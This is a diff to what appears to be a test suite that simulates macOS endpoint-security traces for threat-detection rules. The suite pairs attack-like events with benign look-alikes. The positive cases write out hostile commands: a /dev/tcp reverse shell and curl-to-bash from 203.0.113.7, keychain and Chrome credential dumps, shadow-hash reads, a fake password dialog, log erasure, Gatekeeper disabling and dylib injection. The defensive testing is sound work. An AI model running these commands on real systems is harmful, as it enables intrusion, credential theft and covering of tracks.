@@ -721,11 +721,10 @@ def _(pos: bool):
 
 # -- demonstration ------------------------------------------------------------
 
-M1 = "/tmp/bm_change_file_test_1.txt"
-M2 = "/tmp/bm_change_file_test_2.txt"
-
-
 def demo_trace(t: Trace, parent, pos: bool, shell: str):
+    # ES reports the resolved path: /tmp is a symlink to /private/tmp on macOS
+    M1 = ("/private" if t.os == "macos" else "") + "/tmp/bm_change_file_test_1.txt"
+    M2 = ("/private" if t.os == "macos" else "") + "/tmp/bm_change_file_test_2.txt"
     if pos:
         # bm demo: sh -c 'echo x >> M1; echo x >> M2' — the shell does the writes
         s = t.spawn(parent, shell, ["sh", "-c", f"echo x >> {M1}; echo x >> {M2}"])
@@ -752,6 +751,546 @@ def _(pos: bool):
     t = lt()
     sh = linux_login_shell(t, "root", 0)
     demo_trace(t, sh, pos, "/usr/bin/dash")
+    return t
+
+
+# ============================================================ macOS ==========
+
+def msh(t: Trace, user: str = "alice", uid: int = 501):
+    return macos_terminal_shell(t, user, uid)
+
+
+def mspawn(t: Trace, parent, exe: str, args: list[str], **kw):
+    """A platform binary run from a shell (signing facts as ES gives them)."""
+    if "signing" not in kw and (exe.startswith("/usr/") or exe.startswith("/bin/")
+                                or exe.startswith("/sbin/") or exe.startswith("/System/")):
+        kw["signing"] = asig(exe.rsplit("/", 1)[-1])
+    return t.spawn(parent, exe, args, **kw)
+
+
+def mroot(t: Trace) -> object:
+    return msh(t, "root", 0)
+
+
+@scenario("macos", "fetch_pipe_shell")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/curl", ["curl", "-fsSL", "https://203.0.113.7/install"], stdout="pipe")
+        mspawn(t, sh, "/bin/bash", ["bash"], stdin="pipe", stdout="tty")
+    else:
+        mspawn(t, sh, "/usr/bin/curl", ["curl", "-s", "https://api.github.com/x"], stdout="pipe")
+        mspawn(t, sh, "/usr/bin/python3", ["python3", "-m", "json.tool"], stdin="pipe")
+        mspawn(t, sh, "/bin/bash", ["bash", "build.sh"])
+    return t
+
+
+@scenario("macos", "drop_exec_temp")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    path = "/private/tmp/updater" if pos else "/Users/alice/bin/updater"
+    c = mspawn(t, sh, "/usr/bin/curl", ["curl", "-so", path, "https://203.0.113.7/u"])
+    t.write(c, path, create=True)
+    t.exit(c)
+    mspawn(t, sh, "/bin/chmod", ["chmod", "+x", path])
+    t.spawn(sh, path, [path])
+    return t
+
+
+@scenario("macos", "reverse_shell_socket")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        py = mspawn(t, sh, "/usr/bin/python3", ["python3", "/Users/alice/.local/x.py"])
+        mspawn(t, py, "/bin/zsh", ["/bin/zsh", "-i"], stdin="socket", stdout="socket")
+    else:
+        mspawn(t, sh, "/bin/zsh", ["/bin/zsh", "-i"])
+        sshd = t.root("/usr/libexec/sshd-session", ["sshd-session: alice"], signing=asig("sshd"),
+                      ppid=1, parent_exe="/sbin/launchd")
+        mspawn(t, sshd, "/bin/zsh", ["zsh", "-c", "uptime"], stdin="socket", stdout="socket")
+    return t
+
+
+@scenario("macos", "dev_tcp_redirect")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/8443 0>&1"])
+    else:
+        mspawn(t, sh, "/usr/bin/grep", ["grep", "-r", "/dev/tcp/", "notes/"])
+        mspawn(t, sh, "/bin/zsh", ["zsh", "-c", "zmodload zsh/datetime; echo $EPOCHSECONDS"])
+    return t
+
+
+@scenario("macos", "script_pty_spawn")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/python3", ["python3", "-c", "import pty;pty.spawn('/bin/zsh')"])
+    else:
+        mspawn(t, sh, "/usr/bin/python3", ["python3", "-c", "import socket;print(socket.gethostname())"])
+    return t
+
+
+@scenario("macos", "decode_pipe_shell")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    t.fork(sh, stdout="pipe")
+    mspawn(t, sh, "/usr/bin/base64", ["base64", "-D"], stdin="pipe", stdout="pipe")
+    if pos:
+        mspawn(t, sh, "/bin/zsh", ["zsh"], stdin="pipe", stdout="tty")
+    else:
+        mspawn(t, sh, "/usr/bin/plutil", ["plutil", "-p", "-"], stdin="pipe", stdout="tty")
+    return t
+
+
+@scenario("macos", "script_decode_exec")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    code = ("import base64;exec(base64.b64decode('aW1wb3J0IG9z'))" if pos
+            else "import base64;print(base64.b64decode('aGVsbG8='))")
+    mspawn(t, sh, "/usr/bin/python3", ["python3", "-c", code])
+    return t
+
+
+@scenario("macos", "osascript_password_prompt")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        app = t.spawn(sh, "/Users/alice/Downloads/Installer.app/Contents/MacOS/Installer",
+                      ["/Users/alice/Downloads/Installer.app/Contents/MacOS/Installer"])
+        mspawn(t, app, "/usr/bin/osascript", [
+            "osascript", "-e",
+            'display dialog "macOS needs to access System Settings. Please enter your password." '
+            'default answer "" with title "System Preferences" with icon caution with hidden answer'])
+    else:
+        mspawn(t, sh, "/usr/bin/osascript", ["osascript", "-e", 'display notification "Build finished" with title "make"'])
+        mspawn(t, sh, "/usr/bin/osascript", ["osascript", "-e", 'display dialog "Deploy to production?" buttons {"Cancel", "OK"}'])
+    return t
+
+
+@scenario("macos", "launch_agent_write")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        app = t.spawn(sh, "/Users/alice/Downloads/Player.app/Contents/MacOS/Player", ["Player"])
+        t.write(app, "/Users/alice/Library/LaunchAgents/com.apple.updates.plist", create=True)
+    else:
+        ruby = t.spawn(sh, "/opt/homebrew/Library/Homebrew/vendor/portable-ruby/current/bin/ruby",
+                       ["ruby", "/opt/homebrew/Library/Homebrew/brew.rb", "services", "start", "postgresql@16"])
+        t.write(ruby, "/Users/alice/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist", create=True)
+        t.spawn(sh, "/usr/bin/plutil", ["plutil", "-lint", "/Users/alice/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist"])
+    return t
+
+
+@scenario("macos", "launch_daemon_write")
+def _(pos: bool):
+    t = mt()
+    if pos:
+        sh = mroot(t)
+        cp = mspawn(t, sh, "/bin/cp", ["cp", "/private/tmp/a.plist", "/Library/LaunchDaemons/com.apple.sysmond.plist"])
+        t.write(cp, "/Library/LaunchDaemons/com.apple.sysmond.plist", create=True)
+    else:
+        inst = t.root("/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/installd",
+                      ["installd"], signing=asig("installd"), parent_exe="/sbin/launchd")
+        pss = t.spawn(inst, "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/XPCServices/package_script_service.xpc/Contents/MacOS/package_script_service",
+                      ["package_script_service"], signing=asig("package_script_service"))
+        post = mspawn(t, pss, "/bin/sh", ["/bin/sh", "/tmp/PKInstallSandbox.x/Scripts/postinstall"])
+        cp = mspawn(t, post, "/bin/cp", ["cp", "com.docker.vmnetd.plist", "/Library/LaunchDaemons/"])
+        t.write(cp, "/Library/LaunchDaemons/com.docker.vmnetd.plist", create=True)
+        t.write(inst, "/Library/LaunchDaemons/com.microsoft.autoupdate.helper.plist", create=True)
+    return t
+
+
+@scenario("macos", "launch_item_suspicious")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        a = t.spawn(sh, "/Users/Shared/.pkg/agent", ["/Users/Shared/.pkg/agent"])
+        t.launch_item_add(a, "/Users/alice/Library/LaunchAgents/com.pkg.agent.plist", "/Users/Shared/.pkg/agent")
+    else:
+        a = t.spawn(sh, "/Applications/Slack.app/Contents/MacOS/Slack", ["Slack"])
+        t.launch_item_add(a, "/Applications/Slack.app", "/Applications/Slack.app/Contents/MacOS/Slack")
+    return t
+
+
+@scenario("macos", "launch_item_add")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        a = t.spawn(sh, "/Users/alice/Downloads/helper", ["./helper"])
+        t.launch_item_add(a, "/Users/alice/Library/LaunchAgents/com.helper.plist", "/Users/alice/Library/Application Support/helper/helper")
+    else:
+        a = t.spawn(sh, "/Applications/Docker.app/Contents/MacOS/Docker", ["Docker"])
+        t.launch_item_add(a, "/Applications/Docker.app", "/Applications/Docker.app/Contents/MacOS/Docker")
+    return t
+
+
+@scenario("macos", "login_item_osascript")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/osascript", ["osascript", "-e",
+               'tell application "System Events" to make login item at end with properties {path:"/Users/Shared/.x/agent", hidden:true}'])
+    else:
+        mspawn(t, sh, "/usr/bin/osascript", ["osascript", "-e", 'tell application "System Events" to get the name of every login item'])
+    return t
+
+
+@scenario("macos", "cron_file_write")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        ct = mspawn(t, sh, "/usr/bin/crontab", ["crontab", "-"], stdin="pipe")
+        t.write(ct, "/private/var/at/tabs/alice", create=True)
+    else:
+        mspawn(t, sh, "/usr/bin/crontab", ["crontab", "-l"])
+        c = mspawn(t, sh, "/bin/cat", ["cat", "/private/etc/crontab"])
+        t.open(c, "/private/etc/crontab")
+    return t
+
+
+@scenario("macos", "shell_rc_write")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        py = mspawn(t, sh, "/usr/bin/python3", ["python3", "/Users/alice/Downloads/setup.py"])
+        t.write(py, "/Users/alice/.zshrc")
+    else:
+        v = mspawn(t, sh, "/usr/bin/vim", ["vim", "/Users/alice/.zshrc"])
+        t.write(v, "/Users/alice/.zshrc")
+        t.write(sh, "/Users/alice/.zshrc")  # echo 'export PATH=...' >> ~/.zshrc
+    return t
+
+
+@scenario("macos", "authorized_keys_write")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        c = mspawn(t, sh, "/usr/bin/curl", ["curl", "-so", "/Users/alice/.ssh/authorized_keys", "https://203.0.113.7/k"])
+        t.write(c, "/Users/alice/.ssh/authorized_keys")
+    else:
+        v = mspawn(t, sh, "/usr/bin/vim", ["vim", "/Users/alice/.ssh/authorized_keys"])
+        t.write(v, "/Users/alice/.ssh/authorized_keys")
+        k = mspawn(t, sh, "/usr/bin/ssh-keygen", ["ssh-keygen", "-t", "ed25519"])
+        t.write(k, "/Users/alice/.ssh/id_ed25519.pub", create=True)
+    return t
+
+
+@scenario("macos", "quarantine_removed")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        x = mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-d", "com.apple.quarantine", "/Users/alice/Downloads/tool"])
+        t.file(x, "deletexattr", "/Users/alice/Downloads/tool", xattr="com.apple.quarantine")
+    else:
+        x = mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-d", "com.apple.metadata:kMDItemWhereFroms", "/Users/alice/Downloads/a.pdf"])
+        t.file(x, "deletexattr", "/Users/alice/Downloads/a.pdf", xattr="com.apple.metadata:kMDItemWhereFroms")
+    return t
+
+
+@scenario("macos", "xattr_quarantine_cmd")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-cr", "/Users/alice/Downloads/Cracked.app"])
+    else:
+        mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-l", "/Users/alice/Downloads/Cracked.app"])
+        mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-p", "com.apple.quarantine", "/Users/alice/Downloads/a.dmg"])
+    return t
+
+
+@scenario("macos", "quarantine_strip_exec")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    path = "/Users/alice/Downloads/tool"
+    x = mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-d", "com.apple.quarantine", path])
+    t.file(x, "deletexattr", path, xattr="com.apple.quarantine")
+    t.exit(x)
+    if pos:
+        t.spawn(sh, path, [path])
+    else:
+        t.spawn(sh, "/Users/alice/Downloads/other", ["/Users/alice/Downloads/other"])
+    return t
+
+
+@scenario("macos", "gatekeeper_disable")
+def _(pos: bool):
+    t = mt()
+    sh = mroot(t)
+    if pos:
+        mspawn(t, sh, "/usr/sbin/spctl", ["spctl", "--master-disable"])
+    else:
+        mspawn(t, sh, "/usr/sbin/spctl", ["spctl", "--status"])
+        mspawn(t, sh, "/usr/bin/defaults", ["defaults", "read", "com.apple.LaunchServices", "LSQuarantine"])
+    return t
+
+
+@scenario("macos", "history_file_delete")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        rm = mspawn(t, sh, "/bin/rm", ["rm", "-f", "/Users/alice/.zsh_history"])
+        t.unlink(rm, "/Users/alice/.zsh_history")
+    else:
+        t.write(sh, "/Users/alice/.zsh_history.new", create=True)
+        t.rename(sh, "/Users/alice/.zsh_history.new", "/Users/alice/.zsh_history")
+        t.unlink(sh, "/Users/alice/.zsh_history")  # zsh replaces its own history file
+    return t
+
+
+@scenario("macos", "log_deletion")
+def _(pos: bool):
+    t = mt()
+    sh = mroot(t)
+    logs = ["/private/var/log/system.log", "/private/var/log/install.log", "/private/var/log/wifi.log",
+            "/private/var/audit/20261127100000.not_terminated"]
+    if pos:
+        rm = mspawn(t, sh, "/bin/rm", ["rm", "-rf"] + logs)
+        for p in logs:
+            t.unlink(rm, p)
+    else:
+        ns = t.root("/usr/sbin/newsyslog", ["newsyslog"], signing=asig("newsyslog"), parent_exe="/sbin/launchd")
+        for p in logs:
+            t.unlink(ns, p + ".7.gz")
+        rm = mspawn(t, sh, "/bin/rm", ["rm", "/Users/alice/Library/Logs/app.log"])
+        t.unlink(rm, "/Users/alice/Library/Logs/app.log")
+    return t
+
+
+@scenario("macos", "unified_log_erase")
+def _(pos: bool):
+    t = mt()
+    sh = mroot(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/log", ["log", "erase", "--all"])
+    else:
+        mspawn(t, sh, "/usr/bin/log", ["log", "show", "--last", "1h", "--predicate", "process == \"sshd\""])
+    return t
+
+
+@scenario("macos", "chflags_protect")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/chflags", ["chflags", "uchg", "/Users/alice/Library/LaunchAgents/com.x.plist"])
+    else:
+        mspawn(t, sh, "/usr/bin/chflags", ["chflags", "nohidden", "/Users/alice/Library"])
+    return t
+
+
+@scenario("macos", "timestomp")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/touch", ["touch", "-r", "/bin/ls", "/Users/alice/Library/LaunchAgents/com.x.plist"])
+    else:
+        mspawn(t, sh, "/usr/bin/touch", ["touch", "-t", "202611270900", "/Users/alice/project/stamp"])
+    return t
+
+
+@scenario("macos", "hidden_dir_exec")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        t.spawn(sh, "/Users/alice/Library/.hidden/svc", ["/Users/alice/Library/.hidden/svc"])
+    else:
+        t.spawn(sh, "/Users/alice/.cargo/bin/rg", ["rg", "TODO"])
+        t.spawn(sh, "/Users/alice/Library/Application Support/Code/bin/code", ["code", "."])
+    return t
+
+
+@scenario("macos", "keychain_dump")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/security", ["security", "dump-keychain", "-d", "login.keychain"])
+    else:
+        mspawn(t, sh, "/usr/bin/security", ["security", "list-keychains"])
+        mspawn(t, sh, "/usr/bin/security", ["security", "find-certificate", "-a", "-c", "Apple"])
+    return t
+
+
+@scenario("macos", "keychain_password_query")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/security", ["security", "find-generic-password", "-ws", "Chrome Safe Storage"])
+    else:
+        mspawn(t, sh, "/usr/bin/security", ["security", "find-generic-password", "-s", "gh:github.com"])
+    return t
+
+
+@scenario("macos", "keychain_file_copy")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/bin/cp", ["cp", "/Users/alice/Library/Keychains/login.keychain-db", "/private/tmp/k"])
+    else:
+        mspawn(t, sh, "/bin/ls", ["ls", "-l", "/Users/alice/Library/Keychains/"])
+    return t
+
+
+@scenario("macos", "browser_credential_access")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    prof = "/Users/alice/Library/Application Support/Google/Chrome/Default"
+    if pos:
+        sq = mspawn(t, sh, "/usr/bin/sqlite3", ["sqlite3", prof + "/Login Data", "select * from logins"])
+        t.open(sq, prof + "/Login Data")
+    else:
+        ch = t.spawn(sh, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", ["Google Chrome"],
+                     signing={"signing_id": "com.google.Chrome", "team_id": "EQHXZ8M8AV"})
+        t.open(ch, prof + "/Login Data")
+        sq = mspawn(t, sh, "/usr/bin/sqlite3", ["sqlite3", prof + "/History"])
+        t.open(sq, prof + "/History")
+    return t
+
+
+@scenario("macos", "ssh_key_hunt")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/find", ["find", "/Users", "-name", "id_rsa*"])
+    else:
+        mspawn(t, sh, "/usr/bin/find", ["find", ".", "-name", "*.swift"])
+    return t
+
+
+@scenario("macos", "shadow_hash_dump")
+def _(pos: bool):
+    t = mt()
+    sh = mroot(t)
+    if pos:
+        mspawn(t, sh, "/usr/bin/dscl", ["dscl", ".", "-read", "/Users/alice", "ShadowHashData"])
+    else:
+        mspawn(t, sh, "/usr/bin/dscl", ["dscl", ".", "-read", "/Users/alice", "RealName"])
+    return t
+
+
+MAC_RECON = [("/usr/bin/whoami", ["whoami"]), ("/usr/bin/id", ["id"]), ("/usr/bin/sw_vers", ["sw_vers"]),
+             ("/usr/sbin/system_profiler", ["system_profiler", "SPHardwareDataType"]),
+             ("/sbin/ifconfig", ["ifconfig"]), ("/usr/bin/csrutil", ["csrutil", "status"]),
+             ("/usr/sbin/spctl", ["spctl", "--status"]), ("/bin/ps", ["ps", "aux"])]
+
+
+@scenario("macos", "discovery_burst")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    parent = mspawn(t, sh, "/bin/sh", ["sh", "/private/tmp/i.sh"]) if pos else sh
+    for i, (exe, args) in enumerate(MAC_RECON):
+        c = mspawn(t, parent, exe, args, stdout="pipe")
+        t.exit(c)
+        t.tick(200 if pos else 15_000)
+    return t
+
+
+@scenario("macos", "setuid_chmod")
+def _(pos: bool):
+    t = mt()
+    sh = mroot(t)
+    mspawn(t, sh, "/bin/chmod", ["chmod", "4755" if pos else "0755", "/Users/Shared/helper"])
+    return t
+
+
+@scenario("macos", "sudoers_write")
+def _(pos: bool):
+    t = mt()
+    sh = mroot(t)
+    if pos:
+        tee = mspawn(t, sh, "/usr/bin/tee", ["tee", "-a", "/private/etc/sudoers"], stdin="pipe")
+        t.write(tee, "/private/etc/sudoers")
+    else:
+        vs = mspawn(t, sh, "/usr/sbin/visudo", ["visudo"])
+        ed = mspawn(t, vs, "/usr/bin/vim", ["vim", "/private/etc/sudoers.tmp"])
+        t.write(ed, "/private/etc/sudoers.tmp", create=True)
+        t.rename(vs, "/private/etc/sudoers.tmp", "/private/etc/sudoers")
+    return t
+
+
+@scenario("macos", "dyld_insert_launchctl")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/bin/launchctl", ["launchctl", "setenv", "DYLD_INSERT_LIBRARIES", "/Users/Shared/.l/libinj.dylib"])
+    else:
+        mspawn(t, sh, "/bin/launchctl", ["launchctl", "setenv", "JAVA_HOME", "/Library/Java/Home"])
+    return t
+
+
+@scenario("macos", "dyld_insert_env")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    lib = "/private/tmp/libhook.dylib" if pos else "/Applications/Xcode.app/Contents/Developer/usr/lib/libMainThreadChecker.dylib"
+    mspawn(t, sh, "/usr/bin/env", ["env", f"DYLD_INSERT_LIBRARIES={lib}", "/Applications/Notes.app/Contents/MacOS/Notes"])
+    return t
+
+
+@scenario("macos", "rename_storm")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    files = [f"/Users/alice/Documents/thesis/chapter-{i:03d}.pages" for i in range(60)]
+    if pos:
+        w = t.spawn(sh, "/Users/alice/Downloads/Update.app/Contents/MacOS/Update", ["Update"])
+        for f in files:
+            t.write(w, f)
+            t.rename(w, f, f + ".evilq")
+            t.tick(30)
+    else:
+        fd = t.root("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", ["Finder"],
+                    uid=501, signing=asig("finder"), parent_exe="/sbin/launchd")
+        for i, f in enumerate(files):
+            t.rename(fd, f, f"/Users/alice/Documents/thesis/ch{i:03d}.pages")
+    return t
+
+
+@scenario("macos", "ransom_extension_rename")
+def _(pos: bool):
+    t = mt()
+    sh = msh(t)
+    files = [f"/Users/alice/Desktop/scan-{i:02d}.pdf" for i in range(12)]
+    w = t.spawn(sh, "/Users/alice/Downloads/x/run", ["run"])
+    for f in files:
+        t.rename(w, f, f + (".encrypted" if pos else ".bak"))
+    return t
+
+
+@scenario("macos", "bm_change_file_test")
+def _(pos: bool):
+    t = mt()
+    sh = mroot(t)
+    demo_trace(t, sh, pos, "/bin/sh")
     return t
 
 
